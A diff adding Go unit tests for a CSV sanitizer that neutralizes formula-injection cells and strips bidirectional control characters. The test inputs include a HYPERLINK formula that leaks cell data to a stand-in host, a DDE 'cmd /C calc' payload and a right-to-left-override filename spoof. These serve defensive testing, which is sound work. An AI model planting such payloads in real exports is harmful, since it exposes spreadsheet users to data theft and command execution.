@@ -31,3 +31,61 @@ func TestWriteNodes(t *testing.T) {
 		t.Errorf("read back: %q, %v", rows, err)
 	}
 }
+
+// TestCell holds the CSV-injection cases of issue 16 (item 2): the cells
+// OWASP's "CSV Injection" guidance names as formulas (starting with '=',
+// '+', '-', '@', tab or carriage return) get a leading single quote, the
+// numbers among them do not; bidirectional controls go.
+func TestCell(t *testing.T) {
+	for in, want := range map[string]string{
+		`=HYPERLINK("http://x.example/?"&A1,"Click")`: `'=HYPERLINK("http://x.example/?"&A1,"Click")`,
+		"+1+cmd|' /C calc'!A0":                        "'+1+cmd|' /C calc'!A0",
+		"@SUM(A1)":                                    "'@SUM(A1)",
+		"-2+3":                                        "'-2+3",
+		"\t=1+1":                                      "' =1+1", // the tab is a space, then quoted
+		"\r=1+1":                                      "' =1+1",
+		"  =1":                                        "'  =1",
+		"-":                                           "'-",
+		"- a list":                                    "'- a list",
+		"-3":                                          "-3",
+		"-2.5":                                        "-2.5",
+		"+1":                                          "+1",
+		"1e-05":                                       "1e-05",
+		"-1.5e+10":                                    "-1.5e+10",
+		".5":                                          ".5",
+		"-.5":                                         "-.5",
+		"+Inf":                                        "+Inf",
+		"-Inf":                                        "-Inf",
+		"NaN":                                         "NaN",
+		"-1e":                                         "'-1e",
+		"-.":                                          "'-.",
+		"10.1/x":                                      "10.1/x",
+		"Peer support = recovery":                     "Peer support = recovery",
+		"":                                            "",
+		"evil\u202Efdp.exe":                           "evilfdp.exe", // U+202E RIGHT-TO-LEFT OVERRIDE
+		"\u2066a\u2069 \u200Eb\u200F \u061Cc":         "a b c",
+		"\u202E=1+1":                                  "'=1+1", // dropped first, then quoted
+		"line\nbreak":                                 "line break",
+		"日本語":                                         "日本語",
+	} {
+		if got := csv.Cell(in); got != want {
+			t.Errorf("Cell(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
+
+// TestWriteTableInert: a formula written through WriteTable reads back
+// (encoding/csv) with its quote; the row handed over is not changed.
+func TestWriteTableInert(t *testing.T) {
+	row := []string{"=1+1", "-2", "@A1"}
+	var buf bytes.Buffer
+	if err := csv.WriteTable(&buf, []string{"a", "b", "c"}, [][]string{row}); err != nil {
+		t.Fatal(err)
+	}
+	if got, want := buf.String(), "a,b,c\n'=1+1,-2,'@A1\n"; got != want {
+		t.Errorf("got %q, want %q", got, want)
+	}
+	if row[0] != "=1+1" {
+		t.Errorf("WriteTable changed its row: %q", row)
+	}
+}
